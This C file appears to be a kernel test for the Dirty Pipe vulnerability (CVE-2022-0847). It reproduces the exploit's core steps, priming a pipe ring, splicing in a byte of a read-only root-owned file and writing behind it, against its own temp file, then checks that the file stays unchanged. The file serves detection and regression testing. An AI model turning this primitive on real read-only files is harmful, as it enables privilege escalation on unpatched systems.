/*
 * dirtypipe.c - Dirty Pipe (CVE-2022-0847).
 *
 * Claim:  who may only read a file cannot change it: what a process writes into
 *         a pipe that has pages of the file goes into pages of the pipe's own,
 *         whatever stood in their places before.
 * Method: children that are nobody open a file of root's, mode 0444. Each fills
 *         a pipe with bytes and empties it, so that every place has had a page
 *         that could be written on in; puts one byte of the file there by
 *         splice(), and writes. This is what the public exploits do. And before
 *         that, one such byte is found in the pipe: else the test would pass
 *         where no page of a file comes into a pipe.
 * Oracle: root, in another process, reads the file: every byte is as it was. The
 *         pipe has the file's byte and then those that were written.
 * -X:     the file may be written to, and is.
 */
#include "libvictim.h"

enum { AT = 5 };

static const char evil[] = "m0000000";

static int file;

/* Every place of the ring has been used. */
static void use_ring(const int fds[2])
{
	static char block[PAGE];
	int places = fcntl(fds[1], F_GETPIPE_SZ) / PAGE;

	for (int i = 0; i < places; i++)
		stress_check(write(fds[1], block, PAGE) == PAGE, "write: %s",
			     strerror(errno));
	for (int i = 0; i < places; i++)
		stress_check(read(fds[0], block, PAGE) == PAGE, "read: %s",
			     strerror(errno));
}

static void one_round(void)
{
	char got[sizeof(evil)] = "";
	off_t at = AT - 1;
	int fds[2];

	if (pipe(fds) < 0)
		bail_out("pipe: %s", strerror(errno));
	use_ring(fds);
	stress_check(splice(file, &at, fds[1], NULL, 1, 0) == 1, "splice: %s",
		     strerror(errno));
	if (stress.wrong)
		pwrite(file, evil, sizeof(evil) - 1, AT);
	stress_check(write(fds[1], evil, sizeof(evil) - 1) == sizeof(evil) - 1,
		     "write behind it: %s", strerror(errno));
	stress_check(read(fds[0], got, sizeof(evil)) == sizeof(evil) &&
		     got[0] == content[AT - 1] &&
		     memcmp(got + 1, evil, sizeof(evil) - 1) == 0,
		     "the pipe has something else: \"%.*s\"", (int)sizeof(got), got);
	close(fds[0]);
	close(fds[1]);
}

static void attack(const char *path)
{
	file = open(path, stress.wrong ? O_RDWR : O_RDONLY);
	if (file < 0)
		bail_out("%s: %s", path, strerror(errno));
	victim_become_nobody(path);
	while (stress_go_on()) {
		one_round();
		stress_round();
	}
}

int main(int argc, char **argv)
{
	char path[] = "/tmp/dirtypipe.XXXXXX";

	stress_begin(argc, argv, 2, "a file that may only be read does not change");
	victim_watch(path, 2, attack);
	return stress_end();
}
